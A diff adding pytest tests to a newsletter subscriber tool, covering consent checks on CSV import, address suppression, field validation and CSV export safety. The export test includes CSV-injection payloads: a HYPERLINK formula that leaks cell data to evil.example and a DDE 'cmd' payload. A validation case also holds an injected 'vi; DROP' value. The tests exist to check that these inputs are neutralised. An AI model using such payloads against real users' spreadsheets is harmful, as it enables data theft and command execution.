@@ -8,6 +8,7 @@ import json
 import subprocess
 import sys
 import tracemalloc
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
@@ -98,13 +99,16 @@ def test_mailchimp_and_listmonk_headers(store: Store, settings: Settings, tin_sa
                      "enabled"],
                     ["u2", "blocked@example.org", "B", "{}", "blocklisted"]])
     lib.import_csv(store, settings, mc, "tin-sang", confirmed=True)
-    lib.import_csv(store, settings, lm, "tin-sang")
+    refused = lib.import_csv(store, settings, lm, "tin-sang")  # "enabled" is active, with no date of consent
+    assert refused.first_errors == [f"{lm} line 2: status 'active' but no confirmed date; add --confirmed if they "
+                                    "already consented, or leave the status empty to import them as pending"]
+    lib.import_csv(store, settings, lm, "tin-sang", confirmed=True)
     lan = store.get_subscriber("lan@example.org")
     assert (lan.email, lan.name, lan.timezone) == ("Lan@example.org", "Lan Phạm", "Asia/Tokyo")
     minh = store.get_subscriber("minh@example.org")
     assert (minh.name, minh.timezone, minh.locale) == ("Minh", "Europe/Berlin", "en")
     assert statuses(store, tin_sang.id or 0) == {
-        "Lan@example.org": "active", "minh@example.org": "pending", "blocked@example.org": "unsubscribed"
+        "Lan@example.org": "active", "minh@example.org": "active", "blocked@example.org": "unsubscribed"
     }
 
 
@@ -279,7 +283,7 @@ def test_list_column_routes_rows_and_unknown_lists_are_named(
 
 def test_cli_dry_run_and_stats(cli: CliRunner, tmp_path: Path) -> None:
     cli.invoke(main, ["list", "create", "--from", str(DATA / "lists.toml")])
-    dry = cli.invoke(main, ["subscriber", "import", str(DATA / "subscribers.csv"), "--dry-run"])
+    dry = cli.invoke(main, ["subscriber", "import", str(DATA / "subscribers.csv"), "--dry-run", "--confirmed"])
     assert dry.exit_code == 0 and "would add 10 subscriptions" in dry.output
     assert json.loads(cli.invoke(main, ["subscriber", "ls", "--json"]).output) == []
     cli.invoke(main, ["subscriber", "import", str(DATA / "subscribers.csv"), "--confirmed"])
@@ -287,3 +291,187 @@ def test_cli_dry_run_and_stats(cli: CliRunner, tmp_path: Path) -> None:
     assert table[0].split() == ["list", "active", "pending", "unsub", "bounced", "complaint", "growth", "30d"]
     assert table[1].split() == ["tin-sang", "3", "1", "1", "0", "0", "+3"]
     assert table[2].split() == ["weekly-tech", "5", "0", "0", "0", "0", "+5"]
+
+
+# -- issue 10: consent that holds ------------------------------------------------------------
+
+
+def test_a_skipped_suppressed_row_keeps_its_suppression(
+    store: Store, settings: Settings, tin_sang: NewsList, tmp_path: Path
+) -> None:
+    """Importing a suppressed address twice must not subscribe it the second time (the skip used to drop it)."""
+    path = write_csv(tmp_path / "x.csv", ["email"], [["gone@example.org"], ["hard@example.org"]])
+    lib.import_csv(store, settings, path, "tin-sang", confirmed=True)
+    hard = store.get_subscriber("hard@example.org")
+    store.mark_bounced(store.get_subscription(hard.id or 0, tin_sang.id or 0).id or 0)
+    lib.erase(store, settings, "gone@example.org")
+    for _ in range(3):
+        report = lib.import_csv(store, settings, path, "tin-sang", confirmed=True)
+        assert (report.new_subscriptions, report.resubscribed, report.suppressed) == (0, 0, 2)
+        assert store.suppression(lib.address_hash("gone@example.org")) == "erased"
+        assert store.suppression(lib.address_hash("hard@example.org")) == "bounced"
+    assert statuses(store, tin_sang.id or 0) == {"hard@example.org": "bounced"}
+
+
+def test_the_schema_refuses_an_active_row_for_a_suppressed_address(
+    store: Store, settings: Settings, tin_sang: NewsList
+) -> None:
+    """The rule holds whoever writes: even a direct save of an active subscription fails while suppressed."""
+    import sqlite3
+
+    r = lib.subscribe(store, settings, "an@example.org", "tin-sang")
+    store.add_suppression(lib.address_hash("an@example.org"), "complained")
+    sub = store.get_subscription_by_id(r.subscription.id or 0)
+    sub.status = "active"
+    with pytest.raises(sqlite3.IntegrityError, match="suppressed address"):
+        store.save_subscription(sub)
+    assert store.get_subscription_by_id(r.subscription.id or 0).status == "pending"
+
+
+def test_suppressing_an_address_stops_it_on_every_list(store: Store, settings: Settings, tmp_path: Path) -> None:
+    lib.load_lists(store, DATA / "lists.toml")
+    a = lib.subscribe(store, settings, "an@example.org", "tin-sang", confirmed=True)
+    b = lib.subscribe(store, settings, "an@example.org", "weekly-tech", confirmed=True)
+    store.mark_bounced(a.subscription.id or 0, status="complained")
+    assert store.get_subscription_by_id(a.subscription.id or 0).status == "complained"
+    assert store.get_subscription_by_id(b.subscription.id or 0).status == "complained"
+    kinds = [(e.kind, e.detail) for e in store.events_for(a.subscriber.id or 0)]
+    assert kinds[-2:] == [("complaint", ""), ("complaint", "address suppressed (complained on another list)")]
+
+
+def test_export_then_import_without_confirmed_keeps_active_people_active(
+    settings: Settings, tmp_path: Path
+) -> None:
+    """Active rows with a confirmed date come back active with their own dates, never demoted to pending."""
+    first = open_store(tmp_path / "first.db")
+    lib.load_lists(first, DATA / "lists.toml")
+    lib.import_csv(first, settings, DATA / "subscribers.csv", None, confirmed=True)
+    exported = io.StringIO()
+    lib.export_csv(first, exported)
+    first.close()
+    path = tmp_path / "export.csv"
+    path.write_text(exported.getvalue(), encoding="utf-8")
+
+    second = open_store(tmp_path / "second.db")
+    lib.load_lists(second, DATA / "lists.toml")
+    report = lib.import_csv(second, settings, path, None)  # no --confirmed
+    assert report.errors == 0
+    again = io.StringIO()
+    lib.export_csv(second, again)
+    assert again.getvalue() == exported.getvalue()
+    # the one row that was pending in the file is the only one pending now
+    assert [p.email for p, _s, _ in second.iter_subscriptions(status="pending")] == ["dung.pham@example.com"]
+    second.close()
+
+
+def test_active_without_a_confirmed_date_is_refused_not_demoted(
+    store: Store, settings: Settings, tin_sang: NewsList, tmp_path: Path
+) -> None:
+    path = write_csv(tmp_path / "x.csv", ["email", "status", "confirmed"], [
+        ["a@example.org", "active", "2025-03-01T08:00:00Z"],
+        ["b@example.org", "active", ""],
+        ["c@example.org", "subscribed", ""],
+    ])
+    report = lib.import_csv(store, settings, path, "tin-sang")
+    assert (report.new_subscriptions, report.errors) == (1, 2)
+    assert report.first_errors == [
+        f"{path} line 3: status 'active' but no confirmed date; add --confirmed if they already consented, "
+        "or leave the status empty to import them as pending",
+        f"{path} line 4: status 'active' but no confirmed date; add --confirmed if they already consented, "
+        "or leave the status empty to import them as pending",
+    ]
+    a = store.get_subscriber("a@example.org")
+    sub = store.subscriptions_of(a.id or 0)[0]
+    assert (sub.status, sub.confirmed) == ("active", datetime(2025, 3, 1, 8, tzinfo=UTC))
+    with_flag = lib.import_csv(store, settings, path, "tin-sang", confirmed=True)
+    assert (with_flag.new_subscriptions, with_flag.errors) == (2, 0)
+
+
+def test_pending_rows_are_reported_as_not_emailed_and_can_be_found(
+    store: Store, settings: Settings, tin_sang: NewsList, tmp_path: Path
+) -> None:
+    path = write_csv(tmp_path / "p.csv", ["email"], [["a@example.org"], ["b@example.org"]])
+    report = lib.import_csv(store, settings, path, "tin-sang")
+    assert report.pending == 2
+    assert report.summary().endswith(
+        "; no confirmation email was sent to the 2 pending subscribers (they stay pending until they confirm)"
+    )
+    ids = store.pending_without_confirmation(tin_sang.id)
+    assert sorted(store.get_subscription_by_id(i).subscriber_id for i in ids) == sorted(
+        store.get_subscriber(e).id or 0 for e in ("a@example.org", "b@example.org"))
+    store.set_confirmation_message_id(ids[0], "<confirm.1@news.example.org>")
+    assert store.pending_without_confirmation(tin_sang.id) == ids[1:]
+    confirmed = lib.import_csv(store, settings, write_csv(tmp_path / "c.csv", ["email"], [["c@example.org"]]),
+                               "tin-sang", confirmed=True)
+    assert confirmed.pending == 0 and "confirmation email" not in confirmed.summary()
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\tTab", "\rCR", "'quoted", "''twice", "Nguyễn =ok"]
+
+
+def test_export_neutralises_formulas_and_reimports_the_same_names(
+    settings: Settings, tmp_path: Path
+) -> None:
+    first = open_store(tmp_path / "first.db")
+    lib.create_list(first, NewsList(slug="tin-sang", name="Tin sáng"))
+    for i, name in enumerate(FORMULAS):
+        lib.subscribe(first, settings, f"p{i}@example.org", "tin-sang", name=name, confirmed=True)
+    lib.subscribe(first, settings, "=x@example.org", "tin-sang", confirmed=True)
+    out = io.StringIO()
+    lib.export_csv(first, out)
+    names = {p.email: p.name for p, _s, _ in first.iter_subscriptions()}
+    first.close()
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell or cell[0] not in "=+-@\t\r", row  # no cell a spreadsheet would evaluate
+    assert rows[-1][0] == "'=x@example.org"
+    path = tmp_path / "export.csv"
+    path.write_text(out.getvalue(), encoding="utf-8")
+    second = open_store(tmp_path / "second.db")
+    lib.create_list(second, NewsList(slug="tin-sang", name="Tin sáng"))
+    assert lib.import_csv(second, settings, path, None).errors == 0
+    assert {p.email: p.name for p, _s, _ in second.iter_subscriptions()} == names
+    again = io.StringIO()
+    lib.export_csv(second, again)
+    assert again.getvalue() == out.getvalue()
+    second.close()
+
+
+@pytest.mark.parametrize(("column", "value", "message"), [
+    ("weekday", "²", "weekday '²' is not a whole number from 0 to 6"),
+    ("send_hour", "７", "send_hour '７' is not a whole number from 0 to 23"),
+    ("send_hour", "-1", "send_hour '-1' is not a whole number from 0 to 23"),
+    ("timezone", "Asia/Ho_Chi_Minh\x00", "'Asia/Ho_Chi_Minh\\x00' is not an IANA time zone such as "
+                                        "'Asia/Ho_Chi_Minh' or 'Europe/Berlin'"),
+    ("locale", "vi; DROP", "locale 'vi; DROP' is not a language tag such as 'vi' or 'en-US'"),
+    ("confirmed", "２０２５-01-01", "confirmed '２０２５-01-01' is not an ISO 8601 time"),
+    ("cadence", "hourly", "cadence 'hourly' is not one of daily, weekly"),
+    ("confirmed", "2999-01-01T00:00:00Z", "confirmed '2999-01-01T00:00:00Z' is in the future"),
+    ("categories", "²", "categories '²' has no usable topic name"),
+    ("name", "x" * 201, "name is 201 characters long; at most 200"),
+])
+def test_every_field_is_checked_per_row(
+    store: Store, settings: Settings, tin_sang: NewsList, tmp_path: Path, column: str, value: str, message: str
+) -> None:
+    path = write_csv(tmp_path / "odd.csv", ["email", column], [["a@example.org", ""], ["b@example.org", value],
+                                                               ["c@example.org", ""]])
+    report = lib.import_csv(store, settings, path, "tin-sang", confirmed=True)
+    assert (report.rows, report.new_subscriptions, report.errors) == (3, 2, 1)
+    assert report.first_errors == [f"{path} line 3: {message}"]
+    assert set(statuses(store, tin_sang.id or 0)) == {"a@example.org", "c@example.org"}
+
+
+def test_resubscribe_lifts_a_suppression_only_for_rows_that_come_back(
+    store: Store, settings: Settings, tin_sang: NewsList, tmp_path: Path
+) -> None:
+    for addr in ("a@example.org", "b@example.org"):
+        store.add_suppression(lib.address_hash(addr), "complained")
+    path = write_csv(tmp_path / "x.csv", ["email", "status"], [["a@example.org", "unsubscribed"],
+                                                               ["b@example.org", ""]])
+    report = lib.import_csv(store, settings, path, "tin-sang", confirmed=True, resubscribe=True)
+    assert report.new_subscriptions == 2
+    assert statuses(store, tin_sang.id or 0) == {"a@example.org": "unsubscribed", "b@example.org": "active"}
+    assert store.suppression(lib.address_hash("a@example.org")) == "complained"  # still: it did not come back
+    assert store.suppression(lib.address_hash("b@example.org")) is None
